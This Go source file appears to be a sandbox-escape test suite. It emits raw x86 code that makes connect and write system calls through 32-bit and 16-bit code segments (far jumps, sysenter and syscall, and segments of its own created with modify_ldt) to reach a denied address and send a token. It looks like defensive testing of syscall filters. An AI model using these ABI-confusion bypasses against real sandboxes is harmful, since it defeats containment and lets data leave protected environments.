package escapes

import (
	"encoding/binary"

	"golang.org/x/sys/unix"
)

// Segment selectors: one of <asm/segment.h>, and the first of a table of one's
// own (index 0, local table, privilege 3).
const (
	user32 = 0x23 // __USER32_CS
	local0 = 7
)

// farJump goes on at an offset of a segment, by the stack.
func (r *routine) farJump(selector byte, offset uintptr) {
	const pushByte, pushHalf = 0x6a, 0x68
	r.emit(pushByte, selector, pushHalf)
	r.emitHalf(uint32(offset))
	r.emit(0x48, 0xcb) // lretq
}

// farAttempts make system calls from code segments that are not 64-bit.
func farAttempts() []Attempt {
	return []Attempt{
		{Name: "abi/far-32", Does: "connect from the kernel's 32-bit code segment", Try: writing(func(r *routine, g *Ground) {
			r.farJump(user32, r.aside(func() { r.dial32(g) }))
		})},
		{Name: "abi/far-32-syscall", Does: "connect by AMD's syscall instruction in 32-bit code", Rare: true, Try: connectOnce(0x0f, 0x05)},
		{Name: "abi/far-32-sysenter", Does: "connect by Intel's sysenter instruction in 32-bit code", Rare: true, Try: connectOnce(0x0f, 0x34)},
		{Name: "abi/far-own-32", Does: "connect from a 32-bit code segment of its own", Try: writing(func(r *routine, g *Ground) {
			r.ownSegment(1, r.aside(func() { r.dial32(g) }))
		})},
		{Name: "abi/far-own-16", Does: "connect from a 16-bit code segment of its own", Try: writing(func(r *routine, g *Ground) {
			r.ownSegment(0, r.aside(func() { r.connect16(g) }))
		})},
	}
}

// connectOnce has a child connect a socket by an instruction that does not
// come back: the kernel returns into the 32-bit vDSO, which a 64-bit process
// does not have. Which of the two instructions there is the processor's maker
// decides.
func connectOnce(instruction ...byte) func(*Ground) error {
	return func(g *Ground) error {
		s, err := streamTo(g.Denied.AddrPort4())
		if err != nil {
			return err
		}
		r, err := newRoutine()
		if err != nil {
			return err
		}
		at, size := r.name(g)
		r.farJump(user32, r.aside(func() {
			// The second argument in both places, for both instructions. The
			// sixth is read where esp or ebp lead.
			r.load32(i386Connect, s.fd, at, size, 0, 0, at)
			r.emit(instruction...)
		}))
		ended := r.run()
		if err := s.write([]byte(g.Token)); err == nil {
			return nil
		}
		return ended
	}
}

// ownSegment makes a code segment by modify_ldt(2) that begins at an address,
// and goes on there.
func (r *routine) ownSegment(wide, at uintptr) {
	// struct user_desc of <asm/ldt.h>: entry, base, limit, flags.
	const write, isCode, useable = 1, 2 << 1, 1 << 6
	desc := r.halves(0, at, 0xfff, wide|isCode|useable)
	r.call(unix.SYS_MODIFY_LDT, write, desc, 16)
	r.farJump(local0, 0)
}

// connect16 is dial32 for a 16-bit segment: there the same instructions have
// operands of 16 bits without a prefix.
func (r *routine) connect16(g *Ground) {
	call := func(number uintptr, args ...uintptr) {
		for i, v := range append([]uintptr{number}, args...) {
			const wide, movImmediate = 0x66, 0xb8
			r.emit(wide, movImmediate+[]byte{ax, bx, cx, dx}[i])
			r.emit(binary.LittleEndian.AppendUint32(nil, uint32(v))...)
		}
		r.emit(0xcd, 0x80)
	}
	name, nameSize := r.name(g)
	text, length := r.token(g)
	call(i386Close, 0)
	call(i386Socket, unix.AF_INET, unix.SOCK_STREAM, 0)
	call(i386Connect, 0, name, nameSize)
	call(i386Write, 0, text, length)
	call(i386Exit, 0)
}
